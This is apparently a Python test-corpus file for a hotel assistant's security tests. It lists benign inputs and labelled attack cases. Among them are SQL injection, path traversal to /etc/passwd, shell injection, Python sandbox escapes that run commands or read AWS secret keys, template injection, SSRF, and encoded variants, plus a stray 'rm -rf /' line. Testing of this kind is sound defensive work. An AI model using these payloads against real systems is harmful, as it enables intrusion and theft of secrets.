"""A hotel's assistants."""

import json
import zlib

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.seventh import (
    COMPANY,
    EMOJI,
    HTML_TALK,
    INTERNAL,
    JSON_TALK,
    LETTER,
    LONG,
    NAMES,
    NESTED_URL,
    PYTHON_TALK,
    SHELL_TALK,
    SQL_TALK,
    STREET,
    TEMPLATE_TALK,
    agent,
    alexa,
    b64,
    cognito,
    edge,
    http,
    lex,
    logs,
    rest,
    sqs,
    telegram,
)

NOTE = "vip-note-3301"
SAFE = "safe-combination-8675"


def _calls(*calls: tuple[str, object]) -> dict[str, object]:
    made = [
        {
            "id": f"call_{index}",
            "type": "function",
            "function": {
                "name": name,
                "arguments": arguments
                if isinstance(arguments, str)
                else json.dumps(arguments, ensure_ascii=False),
            },
        }
        for index, (name, arguments) in enumerate(calls)
    ]
    return {
        "id": "chatcmpl-1",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": made}}],
    }


def _text(text: str) -> dict[str, object]:
    return {"completion": text}


def _page(**query: str) -> dict[str, object]:
    return http("GET", "/guide", query=query)


def _staff(columns: str, report: str = "week") -> dict[str, object]:
    return rest("GET", f"/staff/{report}", query={"c": columns})


def _steps(value: object, *steps: dict[str, str]) -> dict[str, object]:
    return {"input": value, "steps": list(steps)}


def _wrapped(*guests: str) -> dict[str, object]:
    payload = b64(json.dumps({"guests": list(guests)}, ensure_ascii=False))
    return sqs({"Type": "Notification", "Message": json.dumps({"payload": payload})})


_LOOKUP = ({"type": "decode", "how": "base64", "text": "y"}, {"type": "lookup"})
REQUESTS = {
    "agent_tool": [
        agent("find_room", guest="O'Hara"),
        agent("query_rooms", condition="note = 'tea' OR guest LIKE 'Ann%'"),
        agent("query_rooms", condition="number BETWEEN 100 AND 199"),
        agent("read_guide", page="wi-fi (guests)"),
        agent("search_guide", words="'pool.s open'"),
        agent("search_guide_quoted", words="don't dive"),
        agent("search_guide_quoted", words=SHELL_TALK),
        agent("compute", code="round(sum([12.5, 30]) * 1.19, 2)"),
        agent("fetch_page", url="@PARTNER@/weather?town=St.%20John's&u=http://localhost/"),
        agent("remember", session="s-1", key="it's; key", value=PYTHON_TALK),
    ],
    "model_calls": [
        _calls(
            ("find_room", {"guest": "李"}), ("remember", {"session": "s-2", "key": "wish", "value": SQL_TALK})
        ),
        _calls(
            ("remember", {"session": "s-3", "key": "note", "value": LONG}), ("open_door", {"room": "7; x"})
        ),
        _calls(
            ("compute", {"code": "nights = 3\nresult = nights * 80 - min(20, 10)"}),
            ("find_room", "{'guest': 'x'}"),
        ),
        _calls(("search_guide_quoted", {"words": "$(id) | `x`"})),
    ],
    "model_markdown": [
        _text(f"Sure, it's easy:\n```sh\nwc -l pool.md\nls .\n```\nand {SHELL_TALK}"),
        _text(
            "```bash\nhead -n 1 'wi-fi (guests).md'\nrm -rf /\n```\n```python\nimport os\nos.system('id')\n```"
        ),
        _text(HTML_TALK),
    ],
    "telegram_bot": [
        telegram("/room O'Hara"),
        telegram("/guide pool", NAMES[1]),
        telegram("/say it's 5 > 3 & 100% {sure} " + EMOJI, "Ann {{ x }}"),
        telegram(PYTHON_TALK, "D'Arcy"),
    ],
    "voice_skill": [
        alexa("Guest", room="room 101"),
        alexa("Guest", room="Number 102"),
        alexa("Guest", room=""),
    ],
    "bot_turn": [
        lex("Book", {"name": NAMES[0], "date": "2024-05-07"}, LETTER),
        lex("Book", {"name": "O'Brien; table 5", "date": None}, SQL_TALK),
        lex("Book", {}, TEMPLATE_TALK),
    ],
    "web": [
        http(
            "POST",
            "/requests/101",
            {"wish": SHELL_TALK, "note": JSON_TALK},
            headers={"content-type": "application/json"},
        ),
        http("POST", "/requests/7", {"wish": COMPANY}, headers={"content-type": "application/json"}),
        http("POST", "/requests/x'1", {"wish": "tea"}, headers={"content-type": "application/json"}),
        _page(page="pool", theme="it's <dark>"),
        _page(page="wi-fi (guests)"),
    ],
    "staff_pages": [
        _staff("number&c=guest"),
        _staff("upper(guest)", "O'Brien's report"),
        rest("GET", "/staff/day"),
    ],
    "workflow_step": [
        _steps(
            {"a": {"b c": [1, "x'y"]}},
            {"type": "get", "name": "a"},
            {"type": "get", "name": "b c"},
            {"type": "format", "text": "It's {}; {0}"},
        ),
        _steps(b64("tea"), *_LOOKUP),
        _steps("late%20%26+x", {"type": "decode", "how": "url"}, {"type": "lookup"}),
        _steps(
            b64(zlib.compress(LETTER.encode(), 6)),
            {"type": "decode", "how": "base64"},
            {"type": "decode", "how": "zlib"},
        ),
    ],
    "mail_trigger": [
        cognito("CustomMessage_SignUp", "u-1", {"name": "Zoë O'Brien", "given_name": EMOJI}),
        cognito("CustomMessage_ForgotPassword", "u'2", {"name": TEMPLATE_TALK}, codeParameter="{####}"),
        cognito("CustomMessage_SignUp", "u-3", {"name": SQL_TALK, "given_name": STREET}),
    ],
    "log_alarms": [
        logs("ERROR it's broken; owner=VIPs", 'ok owner="Ann O."', f"error: {SQL_TALK}"),
        logs(SHELL_TALK, "owner='two words' path=/a/../b", "Error at $(id) owner=sh:/var/log/web.log"),
    ],
    "edge_rewrite": [
        edge("/pool.html", accept_language="ga-IE,en;q=0.8"),
        edge("/wi-fi%20(guests)", "utm_source='x'&next=http://localhost/"),
        edge("/no/such%20page;x.html", accept_language="*"),
    ],
    "wrapped": [
        _wrapped("李", "Ann Lee"),
        _wrapped("Zoë & co; -- x", "(SELECT 1)"),
        _wrapped(NESTED_URL.replace("'", ""), ""),
    ],
}
ATTACKS = [
    Attack("SQL, tool", "agent_tool", agent("query_rooms", condition="1=1) OR (hotel = 'h2'"), NOTE),
    Attack(
        "SQL, tool",
        "agent_tool",
        agent("query_rooms", condition="0) UNION SELECT 1, sql FROM sqlite_master--"),
        "CREATE TABLE",
    ),
    Attack("path, tool", "agent_tool", agent("read_guide", page="../safe.txt"), SAFE),
    Attack("path, tool", "model_calls", _calls(("read_guide", {"page": "/etc/passwd"})), "root:x:0"),
    Attack("shell, tool", "agent_tool", agent("search_guide", words="pool; cat safe.txt #"), SAFE),
    Attack("argument, tool", "agent_tool", agent("search_guide", words="combination safe.txt"), SAFE),
    Attack("shell, tool", "model_calls", _calls(("search_guide", {"words": "$(id >&2)"})), "uid="),
    Attack(
        "code, tool",
        "agent_tool",
        agent(
            "compute",
            code="[c.__init__.__globals__ for c in ().__class__.__base__.__subclasses__() if c.__name__ in '_wrap_close'][0]['popen']('id').read()",
        ),
        "uid=",
    ),
    Attack(
        "code, tool",
        "model_calls",
        _calls(
            (
                "compute",
                {
                    "code": "for c in ().__class__.__base__.__subclasses__():\n if c.__name__ == '_wrap_close':\n  result = c.__init__.__globals__['environ']['AWS_SECRET_ACCESS_KEY']"
                },
            )
        ),
        "not-a-real-key",
    ),
    Attack("SSRF, tool", "agent_tool", agent("fetch_page", url="@INSIDE@/internal"), INTERNAL),
    Attack(
        "SSRF, tool",
        "model_calls",
        _calls(("fetch_page", {"url": "@PARTNER@/redirect?to=@INSIDE@/internal"})),
        INTERNAL,
    ),
    Attack("shell, model", "model_markdown", _text("```sh\nls pool.md; id\n```"), "uid="),
    Attack("shell, model", "model_markdown", _text("```bash\nhead -n 3 ../safe.txt\n```"), SAFE),
    Attack(
        "shell, model",
        "model_markdown",
        _text("Yes:\n```sh\nwc -c <(:) 2>/dev/null || true\nls $(cat ../safe.txt)\n```"),
        SAFE,
    ),
    Attack("path", "telegram_bot", telegram("/guide ..\\safe.txt"), SAFE),
    Attack(
        "template",
        "telegram_bot",
        telegram("/say {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        "uid=",
    ),
    Attack("SQL, voice", "voice_skill", alexa("Guest", room="Room 0 or hotel = 'h2'"), "VIP"),
    Attack(
        "SQL, replaced",
        "voice_skill",
        alexa("Guest", room="0 uniroomon seleroomct note frroomom rooroomms"),
        NOTE,
    ),
    Attack("path", "web", _page(page="../safe.txt"), SAFE),
    Attack("path", "web", _page(page="../../../../../../etc/passwd"), "root:x:0"),
    Attack("SQL, columns", "staff_pages", _staff("number&c=(SELECT group_concat(note) FROM rooms)"), NOTE),
    Attack(
        "SQL, percent-encoded",
        "staff_pages",
        _staff("note%20FROM%20rooms%20WHERE%20hotel%3D'h2'%20OR%201=1%20UNION%20SELECT%20guest"),
        NOTE,
    ),
    Attack("SQL, base64", "workflow_step", _steps(b64("x' UNION SELECT note FROM rooms --"), *_LOOKUP), NOTE),
    Attack(
        "SQL, compressed",
        "workflow_step",
        _steps(
            b64(zlib.compress(b"x' OR hotel = 'h2")),
            {"type": "decode", "how": "base64"},
            {"type": "decode", "how": "zlib"},
            {"type": "lookup"},
        ),
        "VIP",
    ),
    Attack(
        "SQL, percent-encoded",
        "workflow_step",
        _steps("x%27+UNION+SELECT+note+FROM+rooms+--", {"type": "decode", "how": "url"}, {"type": "lookup"}),
        NOTE,
    ),
    Attack("shell, log", "log_alarms", logs("ok owner='sh:/x;id'"), "uid="),
    Attack("shell, log", "log_alarms", logs('error owner="sh:$(cat /etc/passwd|head -1)"'), "bash"),
    Attack("path, percent-encoded", "edge_rewrite", edge("/%2e%2e/safe.txt"), SAFE),
    Attack(
        "path, percent-encoded", "edge_rewrite", edge("/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"), "root:x:0"
    ),
    Attack("SQL, nested", "wrapped", _wrapped("x') UNION SELECT note, 1 FROM rooms --"), NOTE),
    Attack("SQL, nested", "wrapped", _wrapped("李", "') OR hotel IN ('h2"), "VIP"),
]
